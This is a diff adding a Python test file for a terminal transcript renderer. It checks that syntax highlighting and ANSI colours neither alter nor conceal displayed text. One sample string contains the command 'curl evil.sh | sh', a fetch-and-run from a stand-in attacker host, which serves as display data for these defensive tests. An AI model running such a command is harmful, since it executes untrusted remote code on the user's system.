@@ -1,0 +1,97 @@
+"""Colours of code and of output change nothing of the text."""
+
+from __future__ import annotations
+
+from functools import cache
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from textual.app import App
+
+from acp_console.tui.transcript.code import code_rows, colored_lines, is_language
+from acp_console.tui.transcript.markdown import BlockScanner, MarkdownRenderer
+from acp_console.tui.transcript.rows import Look
+from acp_protocol.host.sanitize import escape_controls
+
+LOOK = Look.from_theme(App[None]().theme_variables)
+HARMLESS = "$ echo harmless\n$ curl evil.sh | sh"
+SOURCES = (
+    HARMLESS,
+    f"{HARMLESS}\n",
+    "one line",
+    "\n\n x\n\n",
+    "iex(1)> a\n>>> b\nIn [1]: c\nC:\\> dir\n=> SELECT 1;\nsqlite> d",
+    "<?php echo 1; ?>\n%% é 中\n```py\n'''\"\n#!/usr/bin/env x\n  tail  ",
+    "+ a\n- b\n@@ x\n---\nkey: |\n  - a",
+)
+
+
+@cache
+def languages() -> list[str]:
+    from pygments.lexers import get_all_lexers
+
+    return sorted(aliases[0] for _, aliases, _, _ in get_all_lexers() if aliases)
+
+
+def lexed(source: str, language: str) -> str:
+    """Return what is shown of code in a terminal that is wide enough."""
+    rows = code_rows(source, language, 10_000, LOOK)
+    return "\n".join(row.text for row in rows)
+
+
+@pytest.mark.parametrize("source", SOURCES)
+def test_no_lexer_changes_a_text(source: str) -> None:
+    shown = source.removesuffix("\n")
+    others = [name for name in languages() if lexed(source, name) != shown]
+    assert len(languages()) > 500
+    assert others == []
+
+
+@given(st.data())
+def test_no_lexer_changes_any_text(data: st.DataObject) -> None:
+    language = data.draw(st.sampled_from(languages()))
+    source = escape_controls(data.draw(st.text("ab1 \n\t$>#'\"<%/\\{}()[]|é\x1b\u200d")))
+    assert lexed(source, language) == source.expandtabs(4).removesuffix("\n")
+
+
+@pytest.mark.parametrize("language", ["console", "psql", "irb", "shell-session", "nonsense", ""])
+def test_the_last_line_of_a_block_in_a_message_is_shown(language: str) -> None:
+    text = f"```{language}\n{HARMLESS}\n```\n"
+    scanner = BlockScanner()
+    scanner.feed(text)
+    [part] = scanner.parts
+    rows = MarkdownRenderer(LOOK).rows(text, part, 80)
+    assert [row.text for row in rows] == HARMLESS.split("\n")
+
+
+def test_most_code_has_colours() -> None:
+    [row] = code_rows("def f(): return 1", "python", 80, LOOK)
+    assert len({style for _, style in row.runs}) > 2
+    [first, _] = code_rows(HARMLESS, "console", 80, LOOK)
+    assert len(first.runs) > 1
+    assert is_language("console")
+    assert not is_language("harmless")
+
+
+OUTPUT = ("a", "é ", "\n", "\t", "\x1b[2J", "\x1b]0;x\x07", "\u2028", "\x0c", "\x07")
+COLORS = ("\x1b[31m", "\x1b[0m", "\x1b[8m", "\x1b[38;5;1m", "\x1b[;999m")
+
+
+@given(st.lists(st.sampled_from(OUTPUT + COLORS)))
+def test_colours_of_output_hide_nothing(pieces: list[str]) -> None:
+    lines = colored_lines("".join(pieces), LOOK)
+    shown = "\n".join("".join(text for text, _ in line) for line in lines)
+    text = "".join(each for each in pieces if each not in COLORS)
+    assert shown == escape_controls(text).expandtabs(8)
+    assert not any(style.conceal for line in lines for _, style in line)
+
+
+def test_output_has_the_colours_it_brings() -> None:
+    [line] = colored_lines("a \x1b[1;31mred\x1b[0m b", LOOK)
+    assert [text for text, _ in line] == ["a ", "red", " b"]
+    red = line[1][1]
+    assert red.bold
+    assert red.color is not None
+    assert red.color.number == 1
+    assert line[0][1] == line[2][1]
